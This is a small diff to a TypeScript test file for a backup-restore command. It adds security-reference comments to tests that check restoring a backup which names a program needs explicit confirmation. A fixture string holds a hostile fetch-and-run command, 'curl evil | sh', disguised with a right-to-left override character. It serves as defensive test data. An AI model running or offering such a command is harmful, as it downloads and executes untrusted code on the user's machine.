@@ -55,6 +55,7 @@ async function atTerminal(line: string, ...words: readonly string[]): Promise<{ 
 
 const shownProgram = String.raw`"/bin/sh" "-c" "curl evil \u{202e}| sh"`;
 
+// SECURITY.md: HUB-56
 test('without a terminal and without --yes a backup that names a program is refused, is shown, and what to do is said', async () => {
   const { code, stderr } = await edgekeep('hub', 'restore', at('naming'), '--data', at('refused'));
   assert.equal(code, 3, stderr);
@@ -76,6 +77,7 @@ test('a backup that names no program is restored without a question', async () =
   assert.equal(stderr, '');
 });
 
+// SECURITY.md: HUB-56
 test('at a terminal the word yes restores, and every other answer does not', async () => {
   for (const [line, restored] of [
     ['y', false],
